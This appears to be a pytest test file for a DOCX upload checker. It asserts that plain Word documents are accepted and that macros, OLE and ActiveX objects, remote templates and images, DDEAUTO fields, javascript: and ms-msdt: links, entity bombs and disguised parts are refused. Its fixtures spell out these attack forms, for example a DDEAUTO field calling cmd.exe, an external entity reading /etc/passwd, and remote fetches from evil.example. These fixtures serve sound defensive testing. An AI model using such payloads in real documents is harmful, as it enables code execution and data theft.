"""DOCX: good ones are taken, whatever sort of harm one can put in is told by its name."""

import pytest

from tests.interaction.files.judging import say
from tests.interaction.files.packages import (
    DOCUMENT,
    MICROSOFT,
    OFFICE,
    RELATIONS,
    TYPES,
    field,
    mark,
    pack,
    parts_of,
    put_in,
    relate,
    say_in_word,
    word,
)
from tests.search.files.office_files import make_docx

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
DOCTYPE = '<?xml version="1.0"?><!DOCTYPE d SYSTEM "http://evil.example/d.dtd"><d/>'
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><lolz>&c;</lolz>'
)


def with_type(package: bytes, kind: str) -> bytes:
    return put_in(package, TYPES, "</Types>", f'<Override PartName="/word/extra.xml" ContentType="{kind}"/>')


@pytest.mark.parametrize(
    "content",
    [
        make_docx("来信"),
        make_docx("来信" * 20_000, cells=("甲", "乙")),
        say_in_word(field(" PAGE ")),
        say_in_word(field(' HYPERLINK "https://www.gov.cn/" ')),
        say_in_word(field(" TOC \\o ", '"1-3" \\h ')),
        say_in_word('<w:p><w:fldSimple w:instr=" DATE \\@ yyyy "><w:r><w:t>2026</w:t></w:r></w:fldSimple></w:p>'),
        say_in_word("<w:p><w:r><w:t>DDEAUTO 是一种域，INCLUDEPICTURE 也是</w:t></w:r></w:p>"),
        relate(word(), RELATIONS, OFFICE + "hyperlink", "https://www.gov.cn/a?b=1", mode="External"),
        relate(word(), RELATIONS, OFFICE + "hyperlink", "mailto:a@example.cn", mode="External"),
        word({"word/media/image1.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 20}),
        word({"word/fonts/font1.odttf": b"\x01\x02" * 40, "customXml/item1.xml": b"<a xmlns='urn:b'/>"}),
        pack(parts_of(word()), method=0),
        word({"word/media/image1.jfif": b"\xff\xd8\xff\xe0", "_xmlsignatures/origin.sigs": b""}),
        relate(word(), RELATIONS, OFFICE + "hyperlink", "about:blank", mode="External"),
        relate(word(), RELATIONS, OFFICE + "hyperlink", "附件二.doc", mode="External"),
    ],
)
def test_documents_of_citizens_are_taken(content):
    assert say(content, extension="docx") == "docx"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (word({"word/vbaProject.bin": OLE}), "objects"),
        (relate(word(), RELATIONS, MICROSOFT + "vbaProject", "vbaProject.bin"), "macros"),
        (with_type(word(), "application/vnd.ms-office.vbaProject"), "macros"),
        (with_type(word(), "application/vnd.ms-word.vbaData+xml"), "macros"),
        (with_type(word(), "application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
        (relate(word(), "_rels/.rels", MICROSOFT + "ui/extensibility", "customUI/customUI.xml"), "macros"),
        (word({"word/embeddings/oleObject1.bin": OLE}), "objects"),
        (relate(word(), RELATIONS, OFFICE + "oleObject", "embeddings/oleObject1.bin"), "objects"),
        (relate(word(), RELATIONS, OFFICE + "control", "activeX/activeX1.xml"), "objects"),
        (word({"word/activeX/activeX1.bin": OLE}), "objects"),
        (say_in_word('<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link"/>'), "objects"),
        (say_in_word("<w:p><w:r><w:object><w:control/></w:object></w:r></w:p>"), "objects"),
        (word({"word/embeddings/book.xlsx": b"PK\x03\x04"}), "embedded"),
        (relate(word(), RELATIONS, OFFICE + "package", "embeddings/book.xml"), "embedded"),
        (relate(word(), RELATIONS, OFFICE + "aFChunk", "chunk.xml"), "embedded"),
        (say_in_word('<w:altChunk xmlns:r="urn:r" r:id="rEvil"/>'), "embedded"),
        (word({"word/evil.exe": b"MZ"}), "embedded"),
        (word({"word/page.html": b"<html/>"}), "embedded"),
        (word({"word/media/image1.svg": b"<svg/>"}), "embedded"),
        (word({"word/fonts/font1.odttf": b"MZ\x90\0" + b"\0" * 40}), "embedded"),
    ],
)
def test_macros_objects_and_files_within_are_refused(content, code):
    assert say(content, extension="docx") == f"refused: {code}"


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "http://evil.example/t.dotm"),
        ("attachedTemplate", "file:///\\\\evil.example\\t.dotm"),
        ("oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html"),
        ("image", "http://evil.example/count.png"),
        ("image", "\\\\evil.example\\share\\count.png"),
        ("frame", "http://evil.example/"),
        ("mailMergeSource", "http://evil.example/"),
        ("subDocument", "http://evil.example/a.docx"),
        ("aFChunk", "http://evil.example/a.html"),
        ("externalLinkPath", "a.xlsx"),
        ("anythingNew", "http://evil.example/"),
    ],
)
@pytest.mark.parametrize("mode", ["External", "external"])
def test_what_loads_from_elsewhere_is_refused(kind, target, mode):
    said = say(relate(word(), RELATIONS, OFFICE + kind, target, mode=mode), extension="docx")

    assert said in {"refused: remote", "refused: objects", "refused: embedded"}


def test_remote_template_in_its_own_place_is_refused():
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        f'Type="{OFFICE}attachedTemplate" Target="https://evil.example/t.dotx" TargetMode="External"/></Relationships>'
    )

    assert say(word({"word/_rels/settings.xml.rels": relations.encode()})) == "refused: remote"


@pytest.mark.parametrize(
    "target", ["javascript:alert(1)", "file:///C:/x.exe", "\\\\evil\\x", "ms-msdt:/id", "search-ms:q", "java\tscript:x"]
)
def test_links_that_start_something_are_refused(target):
    content = relate(word(), RELATIONS, OFFICE + "hyperlink", target.replace("\t", "&#9;"), mode="External")

    assert say(content) == "refused: actions"


def test_picture_of_old_drawings_from_elsewhere_is_refused():
    drawing = '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/a.png"/>'

    assert say(say_in_word(f"<w:p><w:r><w:pict>{drawing}</w:pict></w:r></w:p>")) == "refused: remote"


@pytest.mark.parametrize(
    ("xml", "code"),
    [
        (field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '), "dde"),
        (field("DDE", 'AUTO cmd.exe "/c calc"'), "dde"),
        (field(" D", "D", "E", " Excel x y"), "dde"),
        (field("  dDeAuTo cmd"), "dde"),
        ('<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>', "dde"),
        (f"<w:p>{mark('begin')}<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>", "dde"),
        ("<w:p><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>", "dde"),
        ("<w:p><w:r><w:delInstrText>DDEAUTO cmd</w:delInstrText></w:r></w:p>", "dde"),
        (field(' INCLUDEPICTURE "http://evil.example/a.png" \\d '), "remote"),
        (field(' INCLUDETEXT "\\\\\\\\evil\\\\a.docx" '), "remote"),
        (field(' LINK Excel.Sheet.8 "\\\\\\\\evil\\\\a.xls" '), "remote"),
        (field(" MACROBUTTON Run 点这里 "), "macros"),
        (field(" EMBED Package "), "objects"),
    ],
)
def test_fields_that_do_something_are_refused_however_they_are_cut_up(xml, code):
    assert say(say_in_word(xml)) == f"refused: {code}"


def test_field_whose_word_is_computed_by_a_field_is_refused():
    """{ { QUOTE "DDEAUTO" } cmd }: what the inner one showed last belongs to the outer instruction."""
    inner = f"{mark('begin')}<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>{mark('separate')}<w:r><w:t>DDE</w:t></w:r>{mark('end')}"
    outer = f"<w:p>{mark('begin')}{inner}<w:r><w:instrText>AUTO cmd</w:instrText></w:r>{mark('end')}</w:p>"

    assert say(say_in_word(outer)) == "refused: dde"


@pytest.mark.parametrize(
    "xml", [DOCTYPE, LAUGHS, '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>', "<!DOCTYPE d><d/>"]
)
@pytest.mark.parametrize(
    "name",
    ["word/footnotes.xml", "customXml/item1.xml", "docProps/custom.xml", "word/_rels/x.xml.rels", "word/old.vml"],
)
def test_document_type_in_any_part_is_refused(xml, name):
    assert say(word({name: xml.encode()})) == "refused: entities"


def test_document_type_in_another_encoding_is_refused():
    assert (
        say(word({"customXml/item1.xml": DOCTYPE.replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")}))
        == "refused: entities"
    )
    smuggled = '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE d+AD4-<d/>'
    assert say(word({"customXml/item1.xml": smuggled.encode()})) == "refused: broken"


def test_style_sheet_of_a_part_is_refused():
    sheet = '<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><a/>'

    assert say(word({"customXml/item1.xml": sheet.encode()})) == "refused: remote"


@pytest.mark.parametrize("name", [DOCUMENT, "customXml/item1.xml"])
def test_part_that_is_no_xml_is_broken(name):
    assert say(word({"customXml/item1.xml": b"<a/>", name: b"<w:document"})) == "refused: broken"


def test_markup_under_the_name_of_a_picture_is_refused():
    content = put_in(
        word(), TYPES, "</Types>", '<Override PartName="/word/media/i.png" ContentType="application/xml"/>'
    )

    assert say(pack({**parts_of(content), "word/media/i.png": b"\x89PNG\r\n\x1a\n"})) == "refused: disguised"
    assert say(word({"word/media/i.png": b"<svg/>"})) == "refused: disguised"


def test_endless_nesting_is_refused():
    assert say(word({"customXml/item1.xml": b"<a>" * 100_000})) == "refused: slow"


def test_templates_and_presentations_are_not_taken():
    parts = parts_of(word())
    for kind in ("wordprocessingml.template", "presentationml.presentation"):
        changed = parts[TYPES].replace(b"wordprocessingml.document", kind.encode())
        assert say(pack({**parts, TYPES: changed})) == "refused: unsupported"


def test_document_that_is_a_workbook_too_is_refused():
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"

    assert say(with_type(word(), main)) == "refused: disguised"


def test_document_without_its_main_part_is_broken():
    parts = parts_of(word())
    del parts[DOCUMENT]

    assert say(pack(parts)) == "refused: broken"
